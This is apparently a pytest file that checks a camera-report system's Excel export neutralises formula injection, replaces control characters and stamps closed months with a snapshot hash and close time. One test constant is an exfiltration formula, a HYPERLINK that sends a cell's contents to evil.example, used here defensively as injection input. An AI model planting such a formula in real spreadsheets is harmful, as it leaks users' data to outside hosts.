"""The report workbook's text cells are safe and say which closing they come from (pure: no database).

- a name, reason or approver typed as ``=HYPERLINK(...)`` / ``=1+1`` was a live formula (openpyxl
  data_type ``f``) in the monthly, quarterly and to-date workbooks: now a text cell with the quote
  prefix, the text as typed; numbers stay numbers;
- one control character (an old reason ``线路改造\\u0007停电``, ``a\\u0000b``) stopped the workbook with
  openpyxl's IllegalCharacterError: now it is U+FFFD;
- a closed month's workbook carried neither the snapshot's sha256 nor its close time: close →
  reopen → close gave two files with the same title; now both are in the summary's first row and
  every sheet's print footer;
- the labels agree: 24.00 小时 on the print page's score as in the workbook, ``report diff``'s 98 as
  the workbook's, 覆盖点位 as ``camwatch coverage`` says, 报备编号 for the exclusion's number.
"""

from __future__ import annotations

import dataclasses
import io

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from collector.reports import words
from collector.reports.diff_words import value_words
from collector.reports.model import ExclusionRow, FaultRow, Report, content_hash
from collector.reports.periods import parse_quarter
from collector.reports.scope import restrict
from collector.reports.workbook import Seal, workbook_bytes
from collector.web.pages.report_words import quantity as page_quantity
from collector.web.pages.report_words import rw
from tests.collector.reports.sample import T, sample_report

LINK = '=HYPERLINK("http://evil.example/?d="&C4,"x")'
RISKY = (LINK, "=1+1", "+86 1", "-x", "@SUM(A1)")


def _wicked(report: Report) -> Report:
    """*report* with formulas typed into its text: a camera's name, an exclusion's reason and approver,
    a township's name."""
    f = report.faults[0]
    e = report.exclusions[0]
    town = dataclasses.replace(report.townships[0], name="=1+1")
    return dataclasses.replace(
        report, townships=(town, *report.townships[1:]),
        faults=(FaultRow(f.camera_id, LINK, f.village, f.village_name, f.township, f.township_name, f.fault_seconds,
                         f.causes),),
        exclusions=(ExclusionRow(2, "camera", 6, e.region_code, LINK, e.township, T, e.end, "=1+1", "@SUM(A1)"),
                    ExclusionRow(3, "region", None, e.region_code, "周桥村", e.township, T, e.end, "+86 1", "-x")))


def _texts(ws: Worksheet) -> dict[str, list[tuple[str, bool]]]:
    """Every risky text cell of *ws*: value -> [(data_type, quote prefix)]."""
    out: dict[str, list[tuple[str, bool]]] = {}
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value in RISKY:
                out.setdefault(c.value, []).append((c.data_type, bool(c.quotePrefix)))
    return out


MONTHLY = sample_report()
QUARTERLY = dataclasses.replace(sample_report(closed=False), period=parse_quarter("2026Q4", "Asia/Shanghai"))
TO_DATE = sample_report(closed=False)


@pytest.mark.parametrize("report", [MONTHLY, QUARTERLY, TO_DATE], ids=["monthly", "quarterly", "to-date"])
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_text_cell_is_a_formula(report: Report, lang: str) -> None:
    wb = load_workbook(io.BytesIO(workbook_bytes(_wicked(report), lang)))
    seen: dict[str, list[tuple[str, bool]]] = {}
    for ws in wb.worksheets:
        for value, cells in _texts(ws).items():
            seen.setdefault(value, []).extend(cells)
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"], ws.title
    assert set(seen) == set(RISKY)  # each as typed ...
    assert all(cells == [("s", True)] * len(cells) for cells in seen.values()), seen  # ... text, quote-prefixed
    faults = wb[words.sheet_name("faults", lang)]
    assert faults.cell(row=3, column=2).value == LINK and faults.cell(row=3, column=2).data_type == "s"
    assert faults.cell(row=3, column=1).value == 7 and faults.cell(row=3, column=1).data_type == "n"  # numbers stay numbers
    excl = wb[words.sheet_name("exclusions", lang)]
    assert [excl.cell(row=3, column=j).value for j in (1, 3, 8, 9)] == [2, LINK, "=1+1", "@SUM(A1)"]
    assert excl.cell(row=3, column=6).data_type == "n" and excl["C3"].quotePrefix
    summary = wb[words.sheet_name("summary", lang)]
    assert summary.cell(row=4, column=2).value == "=1+1" and summary.cell(row=4, column=5).data_type == "n"


@pytest.mark.parametrize("reason", ["线路改造\u0007停电", "a\u0000b", "\x1b[31m红\x0b"])
def test_a_control_character_does_not_stop_the_workbook(reason: str) -> None:
    e = MONTHLY.exclusions[0]
    bad = dataclasses.replace(MONTHLY, exclusions=(dataclasses.replace(e, reason=reason, approver="王\u0000科长"),),
                              region_name="来安\u0001县")
    for report in (bad, dataclasses.replace(bad, closed=False)):
        wb = load_workbook(io.BytesIO(workbook_bytes(report)))
        ws = wb["报备"]
        shown = ws.cell(row=3, column=8).value
        assert shown == "".join("\ufffd" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in reason), shown
        assert ws.cell(row=3, column=9).value == "王\ufffd科长"
        assert "来安\ufffd县" in wb["汇总"]["A1"].value and "来安\ufffd县" in ws.oddHeader.left.text


def _footer_length(ws: Worksheet) -> int:
    return sum(len(part.text or "") for part in (ws.oddFooter.left, ws.oddFooter.center, ws.oddFooter.right))


def test_a_closed_month_says_its_hash_and_close_time() -> None:
    own = content_hash(MONTHLY)  # the snapshot's text is the report's: its hash is the snapshot's
    wb = load_workbook(io.BytesIO(workbook_bytes(MONTHLY)))
    line = wb["汇总"]["F1"].value
    assert line == f"已结：2026-12-03 09:00:00 +08:00 结账冻结，快照校验码（sha256）{own}", line
    for ws in wb.worksheets:  # every printed page says which closing it comes from
        assert ws.oddFooter.right.text == line and ws.evenFooter.right.text == line, ws.title
        assert _footer_length(ws) + len(ws.oddHeader.left.text or "") < 255  # (Excel's limit of a header/footer)
    en = load_workbook(io.BytesIO(workbook_bytes(MONTHLY, "en")))["Summary"]["F1"].value
    assert en == f"closed: frozen at 2026-12-03 09:00:00 +08:00, snapshot hash (sha256) {own}"

    # close → reopen → close: the same title, another closing, said in the workbook
    first = Seal("a" * 64, MONTHLY.generated_at)
    second = Seal("b" * 64, MONTHLY.generated_at.replace(day=5))
    one = load_workbook(io.BytesIO(workbook_bytes(MONTHLY, "zh", first)))["汇总"]
    two = load_workbook(io.BytesIO(workbook_bytes(MONTHLY, "zh", second)))["汇总"]
    assert one["A1"].value == two["A1"].value
    assert "a" * 64 in one["F1"].value and "2026-12-03 09:00:00 +08:00" in one["F1"].value
    assert "b" * 64 in two["F1"].value and "2026-12-05 09:00:00 +08:00" in two.oddFooter.right.text

    # a township's cut: the county snapshot's hash when given, else the close time alone (never a made-up hash)
    town = restrict(MONTHLY, "341122101000")
    given = load_workbook(io.BytesIO(workbook_bytes(town, "zh", first)))["汇总"]
    assert "a" * 64 in given["F1"].value
    alone = load_workbook(io.BytesIO(workbook_bytes(town)))["汇总"]["F1"].value
    assert alone == "已结：2026-12-03 09:00:00 +08:00 结账冻结"

    # a month not closed says so instead, and no footer hash
    to_date = load_workbook(io.BytesIO(workbook_bytes(TO_DATE, "zh", first)))["汇总"]
    assert to_date["F1"].value.startswith("未结") and not to_date.oddFooter.right.text


def test_one_number_format_and_one_name_for_each_figure() -> None:
    # (b) the score's hours: 24.00 小时 on the print page as in the workbook and its fault sheet
    assert page_quantity("fault_camera", 24.0, "zh") == words.quantity("fault_camera", 24.0, "zh") == "24.00 小时"
    assert page_quantity("below_target", 1.5, "en") == "1.50 pp below"
    score = load_workbook(io.BytesIO(workbook_bytes(MONTHLY)))["考核得分"]
    assert score.cell(row=4, column=4).value == "11.11 小时"
    # (c) report diff shows the score as the workbook does (98, not 98.0)
    assert value_words("total", 98.0, "zh", "Asia/Shanghai") == "98"
    assert value_words("total", 98.5, "zh", "Asia/Shanghai") == "98.5"
    assert value_words("uncertainty_pp", 0.12, "en", "Asia/Shanghai") == "0.12"
    assert value_words("rank", 3, "zh", "Asia/Shanghai") == "3"
    # (d) one name for a point counted as covered in the period: 覆盖点位, as `camwatch coverage`
    assert words.word("online_points", "zh") == rw("online_points", "zh") == "覆盖点位"
    assert words.word("online_points", "en") == "covered points"
    # (a) the workbook's number of an exclusion is said as one
    assert words.word("excl_id", "zh") == "报备编号"
    assert rw("exclusion_no", "zh", id=2) == "报备 #2" and rw("camera_no", "zh", id=6) == "摄像机 #6"
